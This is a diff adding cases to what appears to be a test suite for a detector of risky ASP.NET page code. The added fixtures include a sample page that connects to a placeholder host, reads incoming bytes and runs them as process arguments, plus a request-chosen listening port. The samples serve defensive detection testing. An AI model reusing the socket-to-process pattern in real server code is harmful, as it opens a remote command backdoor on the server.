@@ -72,6 +72,23 @@ for (const [what, page, rules] of [
   ['a text that is written, by itself', cs(`File.WriteAllText(Server.MapPath("a.txt"), "x");`), []],
   // connections
   ['a connection to a host of the request', cs(`var c = new TcpClient(${R}["h"], 80);`), ['flow-connects']],
+  [
+    'a port that the request opens',
+    cs(`var l = new TcpListener(a, int.Parse(${R}["p"])); l.Start();`),
+    ['flow-connects'],
+  ],
+  [
+    'commands that come over a connection of the page',
+    `<%@ Page Language="C#" %><script runat="server">string Take(Socket s) { byte[] b = new byte[9]; s.Receive(b, 0, 9, SocketFlags.None); return Encoding.ASCII.GetString(b); }\nvoid Page_Load(object o, EventArgs e) { var s = new Socket(a, b, c); s.Connect("192.0.2.1", 80); var what = Take(s); var p = new Process(); p.StartInfo.FileName = "x.exe"; p.StartInfo.Arguments = what; p.Start(); }</script>`,
+    ['flow-starts-what-is-sent'],
+  ],
+  [
+    'a program of the page, and an answer of another server',
+    cs(
+      `var c = new TcpClient("mail", 25); c.GetStream().Read(b, 0, 9); w(b); Process.Start("ffmpeg.exe", "-i a.mov");`,
+    ),
+    [],
+  ],
   ['a connection to a host of the page', cs(`var c = new TcpClient("mail", 25); w(${R}["h"]);`), []],
   // files
   [
